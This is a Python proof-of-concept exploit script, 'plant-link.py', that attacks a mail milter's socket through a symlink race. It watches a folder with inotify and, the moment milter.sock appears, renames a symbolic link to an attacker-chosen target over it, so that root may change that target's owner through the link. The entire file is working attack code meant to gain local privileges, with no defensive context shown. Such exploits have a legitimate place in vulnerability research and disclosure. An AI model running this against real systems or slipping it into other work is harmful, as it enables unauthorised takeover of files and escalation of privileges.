#!/usr/bin/python3
# plant-link.py FOLDER TARGET - the attack on the milter's socket: run as the
# user who may write the socket's folder, it waits (inotify) for milter.sock
# to be made there and at once renames a symbolic link to TARGET over it,
# hoping that root changes the owner of the socket through the link. Runs
# until killed.
import ctypes
import os
import struct
import sys

IN_CREATE = 0x100
folder, target = sys.argv[1], sys.argv[2]
tmp, sock = os.path.join(folder, "plant.tmp"), os.path.join(folder, "milter.sock")
libc = ctypes.CDLL("libc.so.6", use_errno=True)
fd = libc.inotify_init()
if fd < 0 or libc.inotify_add_watch(fd, folder.encode(), IN_CREATE) < 0:
    sys.exit("inotify: errno %d" % ctypes.get_errno())


def prepare():
    try:
        os.symlink(target, tmp)
    except FileExistsError:
        pass


prepare()
while True:
    events = os.read(fd, 4096)
    offset = 0
    while offset < len(events):
        _, _, _, length = struct.unpack_from("iIII", events, offset)
        name = events[offset + 16:offset + 16 + length].rstrip(b"\0")
        offset += 16 + length
        if name == b"milter.sock":
            try:
                os.rename(tmp, sock)
            except OSError:
                pass
            prepare()
